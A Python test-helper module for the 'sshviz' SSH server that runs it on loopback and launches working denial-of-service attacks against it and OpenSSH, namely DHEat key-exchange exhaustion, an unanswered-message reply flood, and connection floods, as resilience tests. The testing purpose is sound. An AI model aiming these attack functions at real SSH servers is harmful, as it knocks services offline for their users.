"""``sshviz serve`` in a subprocess, for tests that treat it as a hostile classroom would: it
listens on a free loopback port, its output is collected line by line (so a chatty server never
blocks on a full pipe), and ``login`` is a real OpenSSH login from any loopback source address.

Then the attacks themselves, shared by the tests and bench/hostile.py (which runs them against
OpenSSH's sshd too): each takes a port and the source address to attack from (every
127.0.0.0/8 address is local, so each attacker has its own) and stops by itself."""

from __future__ import annotations

import contextlib
import os
import re
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from sshviz.crypto import dh_groups
from sshviz.crypto.random import SeededRandom
from sshviz.transport.packet import PacketWriter
from sshviz.wire.catalog import MSG

from .openssh import SSH, require, shared_keys, ssh_command, stop

USER = "tester"
PASSWORD = "pw-for-hostile-tests"
PROJECT = Path(__file__).parent.parent


@dataclass
class Served:
    process: subprocess.Popen
    port: int
    directory: Path
    stdout: list[str] = field(default_factory=list)
    stderr: list[str] = field(default_factory=list)

    def alive(self) -> bool:
        return self.process.poll() is None

    def login(self, source: str = "127.0.0.1", command: str = "echo hello", timeout: float = 60
              ) -> subprocess.CompletedProcess:
        """OpenSSH's ssh from ``source`` with the shared Ed25519 key, running ``command``."""
        args = ssh_command(self.port, USER, self.directory, f"BindAddress={source}",
                           identity=shared_keys() / "user_ed25519", command=command)
        return subprocess.run(args, capture_output=True, timeout=timeout, input=b"", check=False)

    def wait_for_line(self, pattern: str, timeout: float = 10, stream: str = "stdout") -> str:
        """The first line of ``stream`` matching ``pattern``, waiting up to ``timeout``."""
        deadline = time.monotonic() + timeout
        lines = self.stdout if stream == "stdout" else self.stderr
        while True:
            for line in list(lines):
                if re.search(pattern, line):
                    return line
            if time.monotonic() > deadline:
                raise AssertionError(f"no {stream} line matches {pattern!r}: {lines[-20:]}")
            time.sleep(0.05)


def _collect(stream, into: list[str]) -> None:
    for raw in iter(stream.readline, b""):
        into.append(raw.decode("utf-8", "replace").rstrip("\n"))


@contextlib.contextmanager
def serve(tmp_path: Path, *options: str, preexec_fn=None, env: dict | None = None,
          program: list[str] | None = None, users: list[str] | None = None):
    """``sshviz serve --port 0`` for user ``tester`` (the shared Ed25519 key, or the password
    in ``SSHVIZ_TEST_PW``), or for ``users`` (options naming them: ``["--accounts", FILE]``);
    yields a Served once it listens, stops it afterwards. ``program`` replaces ``python -m
    sshviz`` (a script that plants a bug first, say)."""
    require(SSH)
    authorized = tmp_path / "authorized_keys"
    authorized.write_text((shared_keys() / "user_ed25519.pub").read_text())
    environment = dict(os.environ, XDG_STATE_HOME=str(tmp_path / "state"), SSHVIZ_TEST_PW=PASSWORD,
                       **(env or {}))
    who = users if users is not None else ["--user", USER, "--authorized-keys", str(authorized),
                                           "--password-env", "SSHVIZ_TEST_PW"]
    process = subprocess.Popen([*(program or [sys.executable, "-m", "sshviz"]), "serve", "--port", "0", *who,
                                *options],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                               env=environment, cwd=PROJECT, preexec_fn=preexec_fn)
    try:
        first = process.stdout.readline().decode()
        found = re.search(r"listening on \S+ port (\d+);", first)
        assert found, (first, process.stderr.read1(4096) if process.poll() is not None else b"")
        served = Served(process, int(found.group(1)), tmp_path)
        served.stdout.append(first.rstrip("\n"))
        for stream, into in ((process.stdout, served.stdout), (process.stderr, served.stderr)):
            threading.Thread(target=_collect, args=(stream, into), daemon=True).start()
        yield served
    finally:
        stop(process)


def hit_and_run(port: int, count: int, source: str = "127.0.0.1", payload: bytes = b"SSH-2.0-hit\r\n") -> int:
    """Connect ``count`` times, send ``payload`` and close at once without reading; returns how
    many connections were made before one was refused."""
    for done in range(count):
        try:
            with socket.create_connection(("127.0.0.1", port), 5, source_address=(source, 0)) as s:
                s.sendall(payload)
        except (ConnectionRefusedError, ConnectionResetError):
            return done
    return count


def first_bytes(sockets: list[socket.socket]) -> list[bytes]:
    """What each socket receives first: the server's version line, or b"" when it was closed."""
    seen = []
    for sock in sockets:
        sock.settimeout(15)
        try:
            seen.append(sock.recv(64))
        except ConnectionResetError:
            seen.append(b"")
    return seen


def hold_idle(addresses: list[str], port: int) -> list[socket.socket]:
    """Connections that never say anything, one per source address given."""
    return [connect(port, address) for address in addresses]


def connect(port: int, source: str, timeout: float = 10) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout, source_address=(source, 0))


def kexinit_payload(kex: str) -> bytes:
    """A client's KEXINIT offering only ``kex`` (and one of everything else)."""
    cipher, mac = ["aes128-ctr"], ["hmac-sha2-256"]
    return MSG.KEXINIT.build(
        cookie=os.urandom(16), kex_algorithms=[kex], server_host_key_algorithms=["ssh-ed25519"],
        encryption_algorithms_client_to_server=cipher, encryption_algorithms_server_to_client=cipher,
        mac_algorithms_client_to_server=mac, mac_algorithms_server_to_client=mac,
        compression_algorithms_client_to_server=["none"], compression_algorithms_server_to_client=["none"],
        languages_client_to_server=[], languages_server_to_client=[], first_kex_packet_follows=False,
        reserved=0).encode()


def dheat(port: int, source: str, until: threading.Event, kex: str = "diffie-hellman-group18-sha512",
          group: int = dh_groups.MODP_8192) -> int:
    """The DHEat attack (as ssh-audit names it): ask for an 8192-bit Diffie-Hellman exchange
    with a random public value, which costs the attacker nothing and the server two large
    exponentiations; read the reply, close, again, until ``until`` is set. Returns the exchanges
    made."""
    writer = PacketWriter("c2s", SeededRandom(source))
    made = 0
    while not until.is_set():
        try:
            with connect(port, source) as sock:
                e = 2 + int.from_bytes(os.urandom(group.bit_length() // 8), "big") % (group - 4)
                sock.sendall(b"SSH-2.0-dheat\r\n" + writer.encode(kexinit_payload(kex)).wire
                             + writer.encode(MSG.KEXDH_INIT.build(e=e).encode()).wire)
                received = 0
                while received < group.bit_length() // 8 and not until.is_set():  # the reply carries f
                    chunk = sock.recv(65536)
                    if not chunk:
                        break
                    received += len(chunk)
                made += 1
        except OSError:
            time.sleep(0.05)
    return made


def reply_flood(port: int, source: str, until: threading.Event, seconds: float = 20) -> str:
    """Finish the key exchange, then send message after message the server must answer
    (unknown numbers: UNIMPLEMENTED), never reading. Returns how it ended."""
    from sshviz.endpoint import ClientConfig, ClientConnection
    from sshviz.transport.transport import TransportConfig
    from sshviz.wire.spec import UNKNOWN_TAIL, Message, MessageSpec

    client = ClientConnection(ClientConfig(TransportConfig(kex=["curve25519-sha256"])))
    client.auth.start = lambda: None  # never ask for authentication
    strange = Message(MessageSpec(150, "STRANGE", UNKNOWN_TAIL, "", "", "attack"), {"data": b"x" * 1000})
    deadline = time.monotonic() + seconds
    try:
        with connect(port, source) as sock:
            client.start()
            while not client.transport.first_kex_done:
                sock.sendall(client.data_to_send())
                data = sock.recv(65536)
                if not data:
                    return "closed during the key exchange"
                client.receive_data(data)
            sock.settimeout(5)
            while not until.is_set() and time.monotonic() < deadline:
                for _ in range(100):
                    client.transport.send_raw(strange)
                sock.sendall(client.data_to_send())
            return "still open"
    except OSError as exc:
        return f"closed by the server ({type(exc).__name__})"


def in_background(function, *args) -> tuple[threading.Thread, list]:
    """Run ``function(*args)`` in a thread; its result lands in the returned list."""
    result: list = []
    thread = threading.Thread(target=lambda: result.append(function(*args)), daemon=True)
    thread.start()
    return thread, result


def rss_kib(pid: int) -> int:
    """Resident memory of a process and all its descendants (sshd's children, sshviz's
    workers), KiB, from Linux's /proc."""
    total = 0
    for child in [pid] + _descendants(pid):
        with contextlib.suppress(OSError), open(f"/proc/{child}/status") as status:
            total += next((int(line.split()[1]) for line in status if line.startswith("VmRSS:")), 0)
    return total


def _descendants(pid: int) -> list[int]:
    parents: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError), open(f"/proc/{entry}/stat") as stat:
                parent = int(stat.read().rsplit(")", 1)[1].split()[1])
                parents.setdefault(parent, []).append(int(entry))
    found, todo = [], [pid]
    while todo:
        children = parents.get(todo.pop(), [])
        found += children
        todo += children
    return found
